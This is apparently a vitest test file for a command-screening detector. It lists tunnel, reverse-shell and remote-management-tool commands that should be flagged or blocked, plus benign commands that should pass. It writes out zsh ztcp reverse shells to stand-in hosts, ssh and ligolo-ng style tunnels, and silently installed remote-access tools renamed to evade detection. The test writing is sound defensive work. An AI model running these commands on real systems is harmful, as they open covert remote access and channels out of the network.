// Red-team round 4: tunnels by option form and by switches, the zsh ztcp reverse shell, RMM tools
// missing from the catalogue or renamed, and the false positives on removal and read-only queries.
import { describe, expect, it } from 'vitest';
import { rmmToolRules } from './rmm-tools';
import { tunnelRules } from './tunnel';
import { run, ruleIds, spansValid, verdict } from './family-test-support';
import type { Shell } from '../types';

/** [text, shell, rule id]: each technique with the red-team line and two evasive variants. */
const tunnels: Array<[string, Shell, string]> = [
  // ssh forwards written as one-word -o options.
  ['ssh -oRemoteForward=9000:localhost:22 jdoe@203.0.113.9', 'bash', 'tunnel.ssh.forward'],
  ['ssh -p 443 -oLocalForward=8080:db.internal:5432 jdoe@203.0.113.9 -N', 'bash', 'tunnel.ssh.forward'],
  ['ssh.exe -oDynamicForward=1080 -N jdoe@203.0.113.9', 'cmd', 'tunnel.ssh.forward'],
  // ligolo-ng agent, usually renamed.
  ['./agent -connect 203.0.113.9:11601 -ignore-cert', 'bash', 'tunnel.agent-switches'],
  ['/tmp/.cache/update -ignore-cert -retry -connect 203.0.113.9:443', 'bash', 'tunnel.agent-switches'],
  ['C:\\Users\\Public\\svchelper.exe -connect 203.0.113.9:443 -accept-fingerprint 7D3F0A', 'cmd', 'tunnel.agent-switches'],
  // nps client (npc), renamed or not.
  ['./npc -server=203.0.113.9:8024 -vkey=abc -type=tcp', 'bash', 'tunnel.agent-switches'],
  ['nohup /opt/x/syncd -vkey=abc -server=203.0.113.9:443 &', 'bash', 'tunnel.agent-switches'],
  ['C:\\ProgramData\\npc.exe -server=203.0.113.9:8024 -vkey=k1', 'cmd', 'tunnel.agent-switches'],
  // localtunnel and friends through package runners.
  ['npx localtunnel --port 3000', 'bash', 'tunnel.package-runner'],
  ['npx -y localtunnel@2.0.2 --port 8080 --subdomain acme', 'bash', 'tunnel.package-runner'],
  ['pnpm dlx localtunnel --port 3000', 'bash', 'tunnel.package-runner'],
  ['lt --port 3000', 'bash', 'tunnel.lt'],
  ['lt --port 8000 -h relay.example.net', 'bash', 'tunnel.lt'],
  // kubectl port-forward and proxy: port forwards like `ssh -L`, wherever they listen.
  ['kubectl port-forward svc/db 5432:5432', 'bash', 'tunnel.kubectl-port-forward'],
  ['kubectl port-forward pod/web-0 8080:80 --address 127.0.0.1', 'bash', 'tunnel.kubectl-port-forward'],
  ["kubectl proxy --address 0.0.0.0 --accept-hosts '.*'", 'bash', 'tunnel.kubectl-port-forward'],
  ['kubectl port-forward svc/db 5432:5432 --address 0.0.0.0', 'bash', 'tunnel.kubectl-port-forward'],
  ['kubectl -n prod port-forward pod/web-0 8080:80 --address=0.0.0.0', 'bash', 'tunnel.kubectl-port-forward'],
  ['oc port-forward svc/db 5432 --address localhost,10.0.0.5', 'bash', 'tunnel.kubectl-port-forward'],
  // The same through the AWS Session Manager agent.
  [
    'aws ssm start-session --target i-0abc --document-name AWS-StartPortForwardingSession --parameters "portNumber=3389,localPortNumber=56789"',
    'bash',
    'tunnel.ssm-port-forward',
  ],
  [
    'aws ssm start-session --target i-0abc --document-name=AWS-StartPortForwardingSessionToRemoteHost --parameters host=db.internal,portNumber=5432',
    'bash',
    'tunnel.ssm-port-forward',
  ],
  // Relay services already named by program.
  ['tailscale funnel 3000', 'bash', 'tunnel.tailscale'],
  // A forward stored in the ssh configuration.
  ["cat >> ~/.ssh/config <<'EOF'\nHost vendor-jump\n    RemoteForward 2222 localhost:22\nEOF", 'bash', 'tunnel.ssh-config'],
  ["echo '  LocalForward 5432 db:5432' >> ~/.ssh/config", 'bash', 'tunnel.ssh-config'],
  ['Add-Content -Path "$HOME\\.ssh\\config" -Value "  DynamicForward 1080"', 'powershell', 'tunnel.ssh-config'],
  // A VPN from a configuration file, however it is named.
  ['sudo openvpn /etc/openvpn/client.conf', 'bash', 'tunnel.openvpn'],
  ['openvpn --config C:\\vpn\\office.conf', 'cmd', 'tunnel.openvpn'],
  ['zrok share public localhost:8080', 'bash', 'tunnel.zrok'],
  ['bore local 3389 --to bore.pub', 'bash', 'tunnel.bore'],
  // Tunnel services started or (re)configured.
  ['sc config cloudflared start= auto', 'cmd', 'tunnel.service'],
  ['net start cloudflared', 'cmd', 'tunnel.service'],
];

const reverseShells: Array<[string, Shell]> = [
  ["zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'zsh'],
  ['zmodload zsh/net/tcp; ztcp 198.51.100.7 443; fd=$REPLY; zsh -i <&$fd >&$fd 2>&$fd', 'zsh'],
  ['zsh -c "zmodload zsh/net/tcp;ztcp h.example.net 8443 && exec /bin/sh <&$REPLY >&$REPLY"', 'bash'],
];

const tunnelAllowed: Array<[string, Shell]> = [
  ['sc query cloudflared', 'cmd'],
  ['sc qc cloudflared', 'cmd'],
  ['net stop cloudflared', 'cmd'],
  ['ssh -oStrictHostKeyChecking=no jdoe@srv.example.net uptime', 'bash'],
  ['ssh -o ServerAliveInterval=60 -oBatchMode=yes host', 'bash'],
  ['openssl s_client -connect example.com:443 -servername example.com', 'bash'],
  ['myservice -server=localhost:8080 -debug', 'bash'],
  ['npx prettier --check .', 'bash'],
  ['npm exec eslint -- src', 'bash'],
  ['pnpm dlx create-vite app', 'bash'],
  ['kubectl get svc -A', 'bash'],
  ['aws ssm start-session --target i-0abc', 'bash'],
  ['aws ssm describe-documents --filters Key=Name,Values=AWS-StartPortForwardingSession', 'bash'],
  ["cat >> ~/.ssh/config <<'EOF'\nHost bastion\n    HostName 203.0.113.44\n    User admin\nEOF", 'bash'],
  ['grep -i forward ~/.ssh/config', 'bash'],
  ['kubectl proxy --help', 'bash'],
  ['openvpn --genkey secret /etc/openvpn/ta.key', 'bash'],
  ['openvpn --version', 'bash'],
  ['openvpn --show-ciphers', 'bash'],
  ['lt -h', 'bash'],
  ['zmodload zsh/net/tcp && ztcp example.com 80 && ztcp -c', 'zsh'],
  ['exec 3>&1; make 2>&$LOGFD', 'bash'],
];

describe('red team: tunnels', () => {
  it.each(tunnels)('flags %s', (text, shell, id) => {
    const f = run(tunnelRules, text, shell);
    expect(ruleIds(f)).toContain(id);
    expect(verdict(f)).toBe('flag');
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(reverseShells)('blocks the zsh ztcp reverse shell %s', (text, shell) => {
    const f = run(tunnelRules, text, shell);
    const hit = f.find((x) => x.ruleId === 'shell.zsh-ztcp');
    expect(hit?.code).toBe('reverse_shell');
    expect(verdict(f)).toBe('block');
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(tunnelAllowed)('allows %s', (text, shell) => {
    expect(run(tunnelRules, text, shell)).toEqual([]);
  });
});

/** [text, shell, tool name in the message]. */
const rmmBlocked: Array<[string, Shell, string]> = [
  // Level.
  ['msiexec /i level.msi LEVEL_API_KEY=abc123 /qn', 'cmd', 'Level'],
  ['msiexec.exe /qn /package C:\\t\\agent.msi level_api_key=abc123', 'cmd', 'Level'],
  ['msiexec /i https://downloads.level.io/level.msi /qn', 'cmd', 'Level'],
  // SimpleHelp (JWrapper installers).
  ['"JWrapper-Remote Access-00011234-complete.exe" /S', 'cmd', 'SimpleHelp'],
  ['Start-Process "C:\\t\\JWrapper-Remote Support-000123-complete.exe"', 'powershell', 'SimpleHelp'],
  ['"C:\\ProgramData\\JWrapper-Remote Access\\SimpleService.exe"', 'cmd', 'SimpleHelp'],
  // Zoho Assist.
  ['ZA_Access.exe /silent', 'cmd', 'Zoho Assist'],
  ['C:\\Users\\Public\\ZA_Access.exe', 'cmd', 'Zoho Assist'],
  ['ZohoMeeting.exe -install', 'cmd', 'Zoho Assist'],
  // Kaseya VSA agent installer, also renamed (its /e /g= /c switches).
  ['KcsSetup.exe /e /g=root /c', 'cmd', 'Kaseya'],
  ['C:\\t\\setup.exe /e /g=acme.root /c', 'cmd', 'Kaseya'],
  ['AgentMon.exe', 'cmd', 'Kaseya'],
  // Remote Utilities host.
  ['msiexec /i "host6.2.2.0.msi" /qn  ADDLOCAL=HostFeature  ', 'cmd', 'Remote Utilities'],
  ['msiexec /qn /i C:\\t\\x.msi ADDLOCAL=HostFeature,ViewerFeature', 'cmd', 'Remote Utilities'],
  ['rutserv.exe /silentinstall', 'cmd', 'Remote Utilities'],
  // xrdp on Linux.
  ['sudo apt install -y xrdp', 'bash', 'xrdp'],
  ['sudo systemctl enable --now xrdp', 'bash', 'xrdp'],
  ['sudo dnf install xrdp', 'bash', 'xrdp'],
  // AnyDesk renamed, recognised by its own switches.
  ["& 'C:\\ProgramData\\x\\AD.exe' --install C:\\ProgramData\\x --silent", 'powershell', 'AnyDesk'],
  ['C:\\t\\svc.exe --install "C:\\Program Files (x86)\\svc" --start-with-win', 'cmd', 'AnyDesk'],
  ['C:\\t\\upd.exe --start-with-win --silent', 'cmd', 'AnyDesk'],
  // An installer renamed to look like an uninstaller is still recognised by its switches.
  ['C:\\t\\uninstall.exe --install C:\\x --start-with-win', 'cmd', 'AnyDesk'],
  // Other vendors' switch combinations on renamed installers.
  ['msiexec /i C:\\t\\a.msi /qn IntegratorLogin=it@example.com CompanyId=1', 'cmd', 'Atera'],
  ['C:\\t\\s.exe prevercheck /s /i dcode=ABC123,confirm_d=0', 'cmd', 'Splashtop'],
];

const rmmAllowed: Array<[string, Shell]> = [
  ['"C:\\Program Files\\TeamViewer\\uninstall.exe" /S', 'cmd'],
  ['"C:\\Program Files (x86)\\AnyDesk\\unins000.exe" /VERYSILENT', 'cmd'],
  ['"C:\\Program Files\\TeamViewer\\Uninstaller.exe"', 'cmd'],
  ['msiexec /i C:\\t\\7zip.msi /qn INSTALLLEVEL=3', 'cmd'],
  ['msiexec /i app.msi ADDLOCAL=ALL /qn', 'cmd'],
  ['xcopy C:\\a D:\\b /e /c /y', 'cmd'],
  ['robocopy C:\\a D:\\b /e', 'cmd'],
  ['tool.exe --install-dir C:\\x --silent', 'cmd'],
  ['VBoxLinuxAdditions.run --install --silent', 'bash'],
  ['setup.exe --install /S', 'cmd'],
  ['systemctl status xrdp', 'bash'],
  ['sudo apt remove xrdp', 'bash'],
  ['sudo systemctl disable --now xrdp', 'bash'],
  ['java -jar jwrapper-tools.jar', 'bash'],
];

describe('red team: RMM tools', () => {
  it.each(rmmBlocked)('blocks %s', (text, shell, tool) => {
    const f = run(rmmToolRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(f[0]?.code).toBe('rmm_tool');
    expect(f.some((x) => x.message.includes(tool))).toBe(true);
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(rmmAllowed)('allows %s', (text, shell) => {
    expect(run(rmmToolRules, text, shell)).toEqual([]);
  });
  it('still blocks launching the tool from its own directory', () => {
    const f = run(rmmToolRules, '"C:\\Program Files\\TeamViewer\\TeamViewer.exe"', 'cmd');
    expect(ruleIds(f)).toContain('rmm.launch');
  });
});
